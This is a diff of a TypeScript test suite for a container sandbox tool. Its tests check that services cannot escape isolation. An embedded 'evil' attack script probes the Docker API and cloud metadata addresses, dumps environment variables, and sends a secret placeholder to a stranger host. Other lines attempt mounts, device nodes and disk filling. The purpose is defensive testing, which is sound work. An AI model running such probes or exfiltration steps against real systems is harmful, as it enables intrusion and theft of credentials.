@@ -19,7 +19,7 @@ let image: TestImage;
 beforeAll(async () => {
   workspace = await openWorkspace();
   folder = mkdtempSync(path.join(os.tmpdir(), 'services-'));
-  image = openTestImage({ entries: [...programs, await goProgram('fetch.go', 'bin/fetch')], changes: ['ENV FROM_IMAGE=1', 'VOLUME /data', 'EXPOSE 7000'] });
+  image = openTestImage({ entries: [...programs, await goProgram('fetch.go', 'bin/fetch'), file('www/up', 'up\n'), file('etc/passwd', 'root:x:0:0::/root:/bin/sh\napp:x:77:77::/:/bin/sh\n')], changes: ['ENV FROM_IMAGE=1', 'VOLUME /data', 'EXPOSE 7000'] });
 }, 60_000);
 afterAll(async () => {
   await workspace[Symbol.asyncDispose]();
@@ -27,7 +27,7 @@ afterAll(async () => {
   rmSync(folder, { recursive: true });
 }, 60_000);
 
-const programs = busybox('sh', 'cat', 'ls', 'echo', 'env', 'grep', 'dd', 'nc', 'wget', 'sleep', 'mount', 'mknod', 'id', 'find', 'sed', 'test', 'true', 'chown', 'setuidgid', 'kill', 'ip', 'tr', 'touch', 'true');
+const programs = busybox('sh', 'cat', 'ls', 'echo', 'env', 'grep', 'dd', 'wget', 'sleep', 'mount', 'mknod', 'id', 'find', 'sed', 'test', 'true', 'chown', 'su', 'kill', 'ip', 'tr', 'touch', 'httpd');
 
 function withServices(services: object): string[] {
   const name = path.join(folder, 'services.yml');
@@ -36,7 +36,7 @@ function withServices(services: object): string[] {
 }
 
 /** Answers on port 7000 when it has done all the rest. */
-const up = 'while true; do echo up | nc -l -p 7000 -s 127.0.0.1 >/dev/null; done';
+const up = 'exec httpd -f -p 127.0.0.1:7000 -h /www';
 const script = (text: string, more: object = {}) => ({ image: image.reference, command: ['/bin/sh', '-c', `${text}\n${up}`], 'health-port': 7000, ...more });
 
 async function printed(run: Promise<DecoyEnd>): Promise<DecoyEnd & { log: string }> {
@@ -48,7 +48,7 @@ async function printed(run: Promise<DecoyEnd>): Promise<DecoyEnd & { log: string
 test('a service is up before the command, by its name and on localhost; it is told of, and gone with the run', async () => {
   const end = await printed(runDecoy([
     ...withServices({ first: script('echo I am $(id -u) in $(ls -d /data) with $FROM_IMAGE $MINE', { env: { MINE: 'mine' } }), second: { image: image.reference, command: ['/bin/sh', '-c', 'touch /tmp/ready; sleep 600'], 'health-command': 'test -e /tmp/ready' } }),
-    '--workspace', 'none', '--', 'bash', '-c', 'cat </dev/tcp/first/7000; getent hosts first second | tr -s " "',
+    '--workspace', 'none', '--', 'bash', '-c', 'curl -s http://first:7000/up; getent hosts first second | tr -s " "',
   ]));
   expect(end, end.stderr + end.log).toMatchObject({ exitCode: 0, stdout: 'up\n127.0.0.1 first\n127.0.0.1 second\n' });
   expect(end.log).toContain('first | I am 0 in /data with 1 mine\n');
@@ -71,20 +71,20 @@ test('it reaches what the sandbox may reach and no more, and a placeholder it is
   const targets = [`127.0.0.1:${port}`, `${outward}:${port}`, '172.17.0.1:2375', '169.254.169.254', 'host.docker.internal', 'stranger.example.test', '1.1.1.1'];
   const attack = `
 ip route; ip addr | grep -v lo
-for t in ${targets.join(' ')}; do echo "TRY $t $(wget -T 3 -q -O - http://$t/ 2>&1)"; done
+fetch ${targets.map((target) => `http://${target}/`).join(' ')}
 ls /var/run/docker.sock /run/decoy 2>&1
 env | sed 's/^/ENV /'
-placeholder=$(nc -l -p 7001 -s 127.0.0.1)
+until placeholder=$(wget -q -O - http://127.0.0.1:7001/placeholder 2>/dev/null); do sleep 0.2; done
 export FETCH_HEADER="Authorization: Bearer $placeholder"
 fetch https://api.example.test/ https://other.example.test/ https://stranger.example.test/`;
   const end = await printed(runDecoy([
-    ...withServices({ evil: { image: image.reference, command: ['/bin/sh', '-c', `${attack}; touch /tmp/done; sleep 600`], 'health-command': 'true' } }),
+    ...withServices({ evil: { image: image.reference, command: ['/bin/sh', '-c', `${attack}; echo over >/data/done; httpd -f -p 127.0.0.1:7002 -h /data`], 'health-command': 'true' } }),
     '--allow', 'other.example.test', ...upstream.resolve('api.example.test', 'other.example.test', 'stranger.example.test'), '--secret', 'API_KEY@api.example.test', '--env', 'PLAIN=x', '--expose', '7000', '--',
-    'bash', '-c', 'until { printf %s "$API_KEY" >/dev/tcp/127.0.0.1/7001; } 2>/dev/null; do sleep 0.1; done; sleep 3',
+    'bash', '-c', 'cd /tmp; printf %s "$API_KEY" >placeholder; python3 -m http.server 7001 --bind 127.0.0.1 >/dev/null 2>&1 & until curl -sf http://127.0.0.1:7002/done; do sleep 0.2; done',
   ], { cwd: workspace.path, env: { API_KEY: secret, ...upstream.env } }));
   host.close();
   expect(end.exitCode, end.stderr + end.log).toBe(0);
-  for (const target of targets) expect(end.log).toMatch(new RegExp(`TRY ${target.replaceAll('.', '\\.')} .*(unreachable|refused|bad address|403|can't connect)`));
+  for (const target of targets) expect(end.log).toMatch(new RegExp(`evil \\| http://${target.replaceAll('.', '\\.')}/ .*(unreachable|connection refused|no such host)`));
   expect(end.log).not.toContain('THE HOST');
   expect(end.log).not.toMatch(/docker\.sock$|default via|ENV (API_KEY|PLAIN|DECOY|GITHUB)/m);
   // At its own host the placeholder is the secret, for a service as for the sandbox: it is one trust. Elsewhere it is refused, and other names are not there.
@@ -103,7 +103,7 @@ mount -t tmpfs x /data 2>&1; mknod /data/loop b 7 0 2>&1
 echo NOT >/decoy/guest; echo NOT >/etc/resolv.conf
 touch /in-root 2>&1
 dd if=/dev/zero of=/data/fill bs=1M count=200 2>&1 | grep -i space
-chown 77:77 /data/fill && setuidgid 77 id -u && echo GAVE-UP-ROOT
+chown 77:77 /data/fill && su app -s /bin/sh -c 'id -u' && echo GAVE-UP-ROOT
 ls ${workspace.path} 2>&1
 ls ${process.execPath} /usr/bin/docker 2>&1
 dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>&1; echo SHM $?`;
